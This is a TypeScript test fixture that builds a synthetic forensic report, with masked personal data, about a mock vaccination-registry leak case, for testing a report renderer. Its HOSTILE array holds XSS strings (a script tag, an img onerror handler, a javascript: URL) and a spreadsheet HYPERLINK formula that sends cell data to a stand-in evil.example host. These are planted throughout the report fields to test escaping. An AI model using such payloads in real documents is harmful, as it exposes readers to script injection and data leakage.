// A hand-built report model for renderer tests: synthetic, masked values only, plus hostile text.
import type { ReportModel, ReportLang, ReportTemplate } from '../../../shared/report';

export const HOSTILE = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', 'javascript:alert(3)', '=HYPERLINK("http://evil.example/?"&A1,"x")'];

const FP = `SHA256:${'ab12'.repeat(16)}`;
const ROOT = 'c0ffee'.padEnd(64, '1');

export function sampleModel(template: ReportTemplate = 'regulator', lang: ReportLang = 'en', custodyEntries = 12): ReportModel {
  const evidence = [0, 1, 2].map((i) => ({
    id: `e${i}a1b2c3`,
    name: i === 2 ? `${HOSTILE[0]}.csv` : `cowin-sample-${i + 1}.csv`,
    format: 'csv',
    bytes: 1_234_567 * (i + 1),
    records: 250_000 * (i + 1),
    md5: `${i}`.repeat(32),
    sha1: `${i}`.repeat(40),
    sha256: `${i}f`.repeat(32),
    acquiredAt: `2026-11-2${i}T08:40:00.000Z`,
    acquiredBy: 'Asha Verma',
    parentName: i === 1 ? 'bundle.zip' : null,
    status: 'parsed',
  }));
  return {
    format: 'sakshya-report/v1',
    template,
    lang,
    generatedAt: '2026-11-27T08:40:00.000Z',
    tool: 'Sakshya 0.1.0',
    case: { id: 'c0123456789', title: 'CoWIN Telegram bot leak', ref: 'DPB/2026/0042', createdAt: '2026-11-20T05:00:00.000Z' },
    examiner: { name: 'Asha Verma', designation: 'Scientist D', organisation: 'National Forensic Laboratory', keyFingerprint: FP },
    summary: {
      evidenceCount: 3,
      totalBytes: 7_407_402,
      totalRecords: 15_00_000,
      recordsWithPersonalData: 12_40_000,
      personalDataValues: 4_52_00_000,
      personalDataTypes: ['IN_AADHAAR', 'IN_PHONE', 'PERSON', 'DATE_OF_BIRTH'],
      firstAcquiredAt: evidence[0]!.acquiredAt,
      lastAcquiredAt: evidence[2]!.acquiredAt,
      statement: `The samples appear to be exports of a vaccination registry. ${HOSTILE[1]}`,
    },
    evidence,
    images: [],
    personalData: evidence.map((e) => ({
      evidenceId: e.id,
      evidenceName: e.name,
      records: e.records,
      textScannedRecords: Math.min(e.records, 100_000),
      types: [
        { type: 'IN_AADHAAR', count: e.records, columns: ['aadhaar'], textColumns: [], examples: ['XXXX XXXX 0124', 'XXXX XXXX 5246'] },
        { type: 'IN_PHONE', count: e.records - 10, columns: ['mobile'], textColumns: ['remarks'], examples: ['XXXXXX3210'] },
        { type: 'PERSON', count: e.records, columns: [HOSTILE[2]!], textColumns: [], examples: ['Z. Q.', 'Y. Q.'] },
      ],
    })),
    authenticity: {
      evidence: evidence.map((e, i) => ({ evidenceId: e.id, name: e.name, verdict: ['likely-genuine', 'inconclusive', 'recycled'][i]!, reasons: ['Aadhaar check digits valid in 99.8% of rows', HOSTILE[3]!] })),
      overlaps: [{ summary: '41% of phone tokens in item 1 also appear in item 2' }, { a: 'e0', b: 'e2', shared: 1200 }],
    },
    notes: [{ at: '2026-11-22T10:00:00.000Z', author: 'Asha Verma', text: `Complainant says the bot answered within seconds. ${HOSTILE[0]}` }],
    custody: {
      entries: Array.from({ length: custodyEntries }, (_, i) => ({
        seq: i,
        at: new Date(Date.parse('2026-11-20T05:00:00.000Z') + i * 60_000).toISOString(),
        action: ['case.created', 'evidence.acquired', 'evidence.parsed', 'evidence.viewed', 'value.revealed'][i % 5]!,
        examiner: 'Asha Verma',
        summary: i === 3 ? HOSTILE[1]! : `name: cowin-sample-${(i % 3) + 1}.csv; records: 2,50,000`,
      })),
      merkleRoot: ROOT,
      checkpoint: { caseId: 'c0123456789', treeSize: custodyEntries, rootHash: ROOT, at: '2026-11-27T08:40:00.000Z', keyFingerprint: FP, signature: `${'A'.repeat(85)}w==` },
      keyFingerprint: FP,
    },
    incident: {},
    annexes: {
      hashCertificate: {
        device: 'Files received on a USB drive from the complainant',
        items: evidence.map((e) => ({ evidenceId: e.id, name: e.name, source: `/media/usb/${e.name}`, bytes: e.bytes, md5: e.md5, sha1: e.sha1, sha256: e.sha256, acquiredAt: e.acquiredAt })),
        at: '2026-11-27T08:40:00.000Z',
        place: '',
        signer: { name: 'Asha Verma', designation: 'Scientist D', organisation: 'National Forensic Laboratory' },
      },
      certIn: {
        reporter: { name: 'Asha Verma', designation: 'Scientist D', organisation: 'National Forensic Laboratory', contact: null },
        incidentType: 'data-leak',
        occurredAt: null,
        detectedAt: '2026-11-20T05:00:00.000Z',
        reportedAt: '2026-11-27T08:40:00.000Z',
        location: null,
        affectedSystems: null,
        description: null,
        personalDataTypes: ['IN_AADHAAR', 'IN_PHONE', 'PERSON'],
        records: 15_00_000,
        indicators: evidence.map((e) => ({ name: e.name, sha256: e.sha256 })),
        actionsTaken: null,
      },
      dpdp: {
        dataFiduciary: null,
        nature: null,
        extent: { records: 15_00_000, values: 4_52_00_000, types: ['IN_AADHAAR', 'IN_PHONE', 'PERSON'] },
        occurredAt: null,
        detectedAt: '2026-11-20T05:00:00.000Z',
        location: null,
        likelyImpact: null,
        mitigation: null,
        personResponsible: null,
        remedialMeasures: null,
        principalsIntimated: null,
        contact: null,
      },
    },
  };
}
